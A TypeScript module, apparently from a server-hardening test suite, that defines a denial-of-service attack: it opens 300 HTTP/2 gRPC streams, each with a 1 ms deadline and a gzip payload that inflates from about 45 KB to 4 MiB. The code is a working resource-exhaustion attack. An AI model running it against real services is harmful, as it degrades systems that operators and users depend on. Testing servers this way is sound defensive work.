import { randomBytes } from "node:crypto";
import { connect } from "node:http2";
import { connect as connectTcp } from "node:net";
import type { Attack } from "../attack.ts";
import { gzipMessage } from "../wire/grpc.ts";
import { bytesField } from "../wire/protobuf.ts";

const calls = 300;

export const attack: Attack = {
  protocol: "HTTP/2",
  description: "gRPC streams with a deadline of 1 ms and messages that inflate from 45 KB to 4 MiB",
  bounds: { cpuMsPerMB: 400, heldPerByte: 20 },
  async run(target) {
    // As much as it may become by the limit on inflation.
    const text = Buffer.alloc(4 * 1024 * 1024 - 1_024, "a");
    randomBytes(42_000).copy(text);
    const message = gzipMessage(bytesField(2, text));
    const socket = connectTcp(target.port, target.host);
    target.watch(socket);
    const session = connect(`http://${target.host}:${target.port}`, {
      createConnection: () => socket,
      // By default, Node's client refuses responses while 10 MB of requests wait to be sent.
      maxSessionMemory: 100,
    });
    session.on("error", () => undefined);
    const ends = Array.from({ length: calls }, (_, index) => {
      const stream = session.request({
        ":method": "POST",
        ":path": `/micro.attack.v1.TargetService/${index % 2 === 0 ? "Chat" : "Say"}`,
        "content-type": "application/grpc+proto",
        "grpc-encoding": "gzip",
        "grpc-timeout": "1m",
        te: "trailers",
      });
      stream.on("error", () => undefined);
      stream.resume();
      stream.end(message);
      return new Promise((resolve) => stream.once("close", resolve));
    });
    await Promise.all(ends);
    session.close();
  },
};
